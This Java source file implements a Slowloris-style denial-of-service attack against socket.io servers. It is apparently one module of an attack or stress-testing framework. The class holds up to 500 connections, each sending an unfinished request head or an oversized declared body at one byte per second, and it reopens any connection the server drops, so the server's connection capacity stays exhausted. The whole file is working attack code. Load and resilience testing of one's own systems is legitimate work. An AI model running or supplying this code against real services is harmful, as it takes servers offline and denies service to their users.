package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.RawConnection;
import dev.carillon.attacks.raw.RawPolling;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Requests that never end hold a connection each (also known as Slowloris). */
final class SlowRequests implements Attack {
    private static final int CONNECTIONS = 500;
    private static final int BODY_LENGTH = 900_000;
    private static final long INTERVAL_MILLIS = 1_000;

    private final String name;
    private final String what;
    private final boolean body;

    private SlowRequests(String name, String what, boolean body) {
        this.name = name;
        this.what = what;
        this.body = body;
    }

    static SlowRequests heads() {
        return new SlowRequests("slow-heads", "the head of a request", false);
    }

    static SlowRequests bodies() {
        return new SlowRequests("slow-bodies", "the body of a request", true);
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public String summary() {
        return "500 connections send " + what + " one byte per second";
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(1, () -> trickle(attacker));
    }

    private void trickle(Attacker attacker) throws IOException {
        List<RawConnection> connections = new ArrayList<>();
        while (!attacker.isStopped()) {
            while (connections.size() < attacker.scaled(CONNECTIONS) && !attacker.isStopped()) {
                connections.add(begin(attacker));
                attacker.count();
            }
            connections.removeIf(SlowRequests::isClosedByServer);
            attacker.pause(INTERVAL_MILLIS);
        }
    }

    private RawConnection begin(Attacker attacker) throws IOException {
        RawConnection connection = attacker.open();
        if (body) {
            String session = RawPolling.sessionId(RawPolling.handshake(connection, "", ""));
            connection.send(RawPolling.postHead(session, BODY_LENGTH));
        } else {
            connection.send("GET /socket.io/?EIO=4&transport=polling&p=");
        }
        return connection;
    }

    private static boolean isClosedByServer(RawConnection connection) {
        try {
            connection.send("4");
            return false;
        } catch (IOException e) {
            connection.closeQuietly();
            return true;
        }
    }
}
